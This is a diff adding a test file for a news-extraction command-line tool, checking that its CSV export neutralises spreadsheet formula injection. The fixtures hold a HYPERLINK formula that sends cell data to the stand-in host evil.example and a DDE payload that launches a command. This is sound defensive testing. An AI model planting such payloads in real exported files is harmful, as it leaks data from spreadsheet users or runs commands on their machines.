@@ -1,0 +1,78 @@
+// CSV formula injection: ids, titles, names and quotes that a spreadsheet would run as a formula
+// are written with a leading single quote by `extract --format csv` and `summarize --format csv`;
+// numbers stay numbers, and --csv-raw writes every cell as it is.
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { parseString } from 'fast-csv';
+import { ensureBuilt, runCli } from '../helpers/cli.js';
+
+const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'newsfacts-csv-'));
+beforeAll(ensureBuilt);
+afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
+
+const FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
+const FORMULA_TITLE = "=cmd|' /C calc'!A0";
+
+function readCsv(text: string): Promise<Record<string, string>[]> {
+  return new Promise((resolve, reject) => {
+    const rows: Record<string, string>[] = [];
+    parseString(text, { headers: true })
+      .on('data', (row) => rows.push(row))
+      .on('error', reject)
+      .on('end', () => resolve(rows));
+  });
+}
+
+function articles(): string {
+  const file = path.join(tmp, 'articles.ndjson');
+  const text = 'Officials in Buenos Aires said on Monday that three drones were seen.\n';
+  fs.writeFileSync(file, JSON.stringify({ id: FORMULA_ID, title: FORMULA_TITLE, text }) + '\n' + JSON.stringify({ id: '@SUM(1+1)', text: '+1 and -2 were the figures.' }) + '\n');
+  return file;
+}
+
+describe('extract --format csv', () => {
+  it('prefixes formula cells with a single quote and keeps negative numbers as numbers', async () => {
+    const r = await runCli(['extract', '-q', '--format', 'csv', articles()]);
+    expect(r.code).toBe(0);
+    const rows = await readCsv(r.stdout);
+    expect(rows[0]).toMatchObject({ article: `'${FORMULA_ID}`, type: 'article', text: `'${FORMULA_TITLE}` });
+    expect(rows.find((row) => row.text === 'Buenos Aires')).toMatchObject({ lat: '-34.6131', lon: '-58.3772' });
+    expect(rows.filter((row) => row.article === "'@SUM(1+1)").length).toBeGreaterThan(0);
+    // no cell starts a formula; a cell starting with a minus is a number
+    expect(r.stdout).not.toMatch(/(?:^|,)"?(?:[=+@]|-(?![\d.]+(?:,|$)))/m);
+  });
+
+  it('writes every cell as it is with --csv-raw', async () => {
+    const r = await runCli(['extract', '-q', '--format', 'csv', '--csv-raw', articles()]);
+    expect(r.code).toBe(0);
+    const rows = await readCsv(r.stdout);
+    expect(rows[0]).toMatchObject({ article: FORMULA_ID, text: FORMULA_TITLE });
+  });
+});
+
+describe('summarize --format csv', () => {
+  const record = {
+    id: '-1+cmd',
+    source: { kind: 'file', path: 'x.txt' },
+    officials: [{ name: '=Jane Roe', title: '@Governor', affiliation: 'Tver Region', aliases: [], mentions: [] }],
+    regions: [],
+    dates: [],
+    counts: [{ text: 'minus three', value: -3, item: 'drones', item_key: 'drone', when: null, source: null, role: 'single', start: 0, end: 11 }],
+    quotes: [{ text: '+calm', speaker: '=Jane Roe', start: 0, end: 5 }],
+    organizations: [],
+  };
+
+  it('prefixes formula cells and keeps the numbers of numeric columns, even negative', async () => {
+    const file = path.join(tmp, 'records.ndjson');
+    fs.writeFileSync(file, JSON.stringify(record) + '\n');
+    const r = await runCli(['summarize', '-q', '--format', 'csv', file]);
+    expect(r.code).toBe(0);
+    const rows = await readCsv(r.stdout);
+    expect(rows.find((row) => row.section === 'official')).toMatchObject({ name: "'=Jane Roe", title: "'@Governor", articles: "'-1+cmd" });
+    expect(rows.find((row) => row.section === 'count')).toMatchObject({ value: '-3' });
+    expect(rows.find((row) => row.section === 'quote')).toMatchObject({ name: "'=Jane Roe", text: "'+calm" });
+    const raw = await readCsv((await runCli(['summarize', '-q', '--format', 'csv', '--csv-raw', file])).stdout);
+    expect(raw.find((row) => row.section === 'official')).toMatchObject({ name: '=Jane Roe', articles: '-1+cmd' });
+  });
+});
